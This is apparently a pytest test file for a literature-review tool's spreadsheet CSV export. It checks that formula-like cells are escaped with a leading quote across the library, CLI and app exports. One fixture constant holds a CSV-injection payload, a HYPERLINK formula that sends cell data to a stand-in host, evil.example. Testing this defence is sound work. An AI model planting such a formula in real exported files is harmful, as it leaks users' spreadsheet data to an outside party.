"""CSV for spreadsheets through every door (library, export(), CLI, app): a cell that
starts like a formula is shown by Excel/LibreOffice as text, never run (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import litreview
from litreview.app.state import AppState
from litreview.cli import main
from litreview.writers import export
from litreview.writers._spreadsheet import (
    FORMULA_PREFIXES,
    neutralize_cell,
    neutralize_cells,
    restore_cell,
)

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


def cells_of(path: Path) -> list[dict[str, str]]:
    """The CSV's rows as dicts, read byte-exact (no newline translation)."""
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", FORMULA_PREFIXES)
def test_neutralize_cell_quotes_every_formula_start(start: str) -> None:
    assert neutralize_cell(start + "1+1") == "'" + start + "1+1"


def test_neutralize_cell_leaves_text_alone() -> None:
    assert neutralize_cells(["Vision", "", " =1", "'quote", "a=b", "1-2"]) == [
        "Vision", "", " =1", "'quote", "a=b", "1-2"
    ]  # fmt: skip
    assert neutralize_cells(["'=1", "''-1"]) == ["''=1", "'''-1"]  # reversible


@pytest.fixture
def review_path(tmp_path: Path) -> Path:
    """A closed review whose first paper has formula-like annotations."""
    path = tmp_path / "r.litreview"
    with litreview.Review.open(path, reviewer="ada") as r:
        r.add(litreview.SAMPLE_LISTING)
        first = r.papers["paper_id"].iloc[0]
        r.annotate([first], decision="exclude", reason="-1+2", note=EVIL, add_tags=["@cmd", "ok"])
    return path


@pytest.fixture
def review(review_path: Path) -> Iterator[litreview.Review]:
    with litreview.Review.open(review_path, reviewer="ada") as r:
        yield r


def check_neutralised(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), (name, cell)
    (mine,) = [row for row in rows if row["decision"] == "exclude"]
    assert (mine["note"], mine["reason"]) == ("'" + EVIL, "'-1+2")
    assert mine["tags"] in ("'@cmd; ok", "ok; @cmd")


def test_export_format_excel_and_excel_option(review: litreview.Review, tmp_path: Path) -> None:
    papers = review.papers
    by_format = export(papers, tmp_path / "a.csv", format="excel")
    by_option = export(papers, tmp_path / "b.csv", excel=True)
    assert by_format.read_bytes() == by_option.read_bytes()
    assert by_format.read_bytes().startswith(b"\xef\xbb\xbf")
    check_neutralised(cells_of(by_format))
    plain = cells_of(export(papers, tmp_path / "plain.csv"))
    assert [row["note"] for row in plain if row["decision"] == "exclude"] == [EVIL]


def test_cli_export_excel(
    review_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "sheet.csv"
    argv = ["export", str(review_path), "-o", str(out), "--excel", "--reviewer", "ada"]
    assert main(argv) == 0
    check_neutralised(cells_of(out))
    assert main(["export", str(review_path), "-o", str(tmp_path / "x.bib"), "--excel"]) == 2
    assert "--excel writes CSV" in capsys.readouterr().err
    assert not (tmp_path / "x.bib").exists()


def test_app_exports_csv_for_spreadsheets(review: litreview.Review, tmp_path: Path) -> None:
    from litreview.app.export_tab import FORMATS, ExportView

    state = AppState(review, export_dir=tmp_path / "exports", page_size=10)
    path = state.export("excel", "selection", "sheet")
    assert path == tmp_path / "exports" / "sheet.csv"
    check_neutralised(cells_of(path))
    assert "excel" in dict((v, k) for k, v in FORMATS)
    view = ExportView(state)
    view._format.value = "excel"
    assert view._name.value.endswith(".csv")


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1"), max_size=8) | st.text(max_size=20))
def test_restore_cell_undoes_neutralize_cell(text: str) -> None:
    cell = neutralize_cell(text)
    assert restore_cell(cell) == text
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell == text or cell == "'" + text
